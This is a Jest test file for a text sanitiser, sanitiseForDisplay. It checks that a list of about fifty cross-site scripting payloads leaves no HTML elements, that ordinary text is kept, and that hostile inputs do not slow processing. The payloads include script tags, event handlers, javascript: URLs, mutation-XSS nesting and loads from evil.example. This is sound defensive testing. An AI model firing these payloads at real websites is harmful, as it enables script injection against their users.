import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { parseFragment } from 'parse5';
import { sanitiseForDisplay } from './display.js';

/** Names of the nodes that a browser makes of a text given to `innerHTML`. */
function nodes(html: string): string[] {
  return [...new Set(parseFragment(html).childNodes.map(({ nodeName }) => nodeName))];
}

/** From the usual collections: OWASP's filter evasion cheat sheet, PortSwigger's list of vectors, mutation XSS. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<script\n>alert(1)</script\n>',
  '<script/x>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<SCRIPT>alert(1);//<</SCRIPT>',
  '<script>alert(1)',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"//',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>"\\>',
  '<img src="a>b" onerror=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<iframe src="javascript:alert(1)">',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<object data="data:text/html;base64,PHNjcmlwdD4=">',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<x onclick=alert(1)>click',
  '<x contenteditable onfocus=alert(1) autofocus tabindex=1>',
  '<details open ontoggle=alert(1)>',
  '<body onload=alert(1)>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<base href="https://evil.example/">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<div style="background:url(javascript:alert(1))">',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<!DOCTYPE html><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</title><svg onload=alert(1)>',
  '<plaintext>',
  '<isindex action=javascript:alert(1) type=image>',
  '"><script>alert(1)</script>',
  "';alert(1)//",
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<b <script>alert(1)</script>0',
  '<b/alt="1"onmouseover=alert(1)>x',
  '<iframe/ /onload=alert(/1/)></iframe>',
  '<img src=x:x onerror\u000b=alert(1)>',
  '<\u0000script>alert(1)</script>',
  '<a\u000chref=javascript:alert(1)>x',
];

describe('sanitiseForDisplay', () => {
  it.each(ATTACKS)('leaves no element of %j', (attack) => {
    const shown = sanitiseForDisplay(attack);
    expect(shown).not.toMatch(/<[a-z/!?]/i);
    expect(nodes(shown).filter((name) => name !== '#text')).toEqual([]);
  });

  it('leaves no element of any mixture of them', () => {
    const pieces = fc.constantFrom(
      ...ATTACKS,
      ...[
        '<',
        '>',
        '</',
        '<!--',
        '-->',
        '<!',
        '"',
        "'",
        '=',
        ' ',
        '/',
        'script',
        'img',
        'style',
        'b',
        'onload=x',
        '\0',
        '\n',
      ],
    );
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 12 }), (parts) => {
        const shown = sanitiseForDisplay(parts.join(''));
        expect(nodes(shown).filter((name) => name !== '#text')).toEqual([]);
        expect(sanitiseForDisplay(shown)).toBe(shown);
      }),
      { numRuns: 2000 },
    );
  });

  it.each([
    'I <3 you',
    'a < b and b > c',
    '5 > 3 && 2 < 4',
    'Tom & Jerry, "quoted", it\'s',
    'AT&amp;T',
    '>:( or <:)',
    '¿Qué tal? ñandú 👨‍👩‍👧',
    'x <- 5; y <= 6; z << 2',
    '',
  ])('leaves %j as it is', (text) => {
    expect(sanitiseForDisplay(text)).toBe(text);
  });

  it.each([
    ['<b>Ana</b> likes <i class="x">cake</i>', 'Ana likes cake'],
    ['line<br>break<br/>', 'line\nbreak\n'],
    ['Hello<script>alert(1)</script> Leo', 'Hello Leo'],
    ['<p>one</p><!-- hidden --><p>two</p>', 'one\ntwo\n'],
    ['the <script> tag', 'the  tag'],
    ['<img src=x onerror=alert(1)>photo', 'photo'],
    ['const x: List<String> = a<b ? c : d', 'const x: List< String> = a< b ? c : d'],
    ['if (a<b and c>d)', 'if (a< b and c>d)'],
    ['<me@example.org>', '< me@example.org>'],
  ])('shows %j as %j', (text, shown) => {
    expect(sanitiseForDisplay(text)).toBe(shown);
  });

  it('stays in time on hostile texts', () => {
    const parts = [
      '<',
      '<b ',
      '<script>',
      '<b a=',
      '<b a="',
      '</script',
      '<!--',
      '<style><',
      '<b a=b ',
      "<b a='x' ",
      '<b\t',
    ];
    const slow = [...parts, '<script>' + ' '.repeat(9), '<b' + ' '.repeat(9)]
      .flatMap((part) => [
        part.repeat(20_000 / part.length),
        part + part.slice(1).repeat(20_000),
        part + ' '.repeat(20_000),
      ])
      .map((text) => {
        const start = performance.now();
        sanitiseForDisplay(text);
        return { text: text.slice(0, 20), ms: performance.now() - start };
      })
      // A machine under load is slower; quadratic work would take seconds.
      .filter(({ ms }) => ms > 250);
    expect(slow).toEqual([]);
  });
});
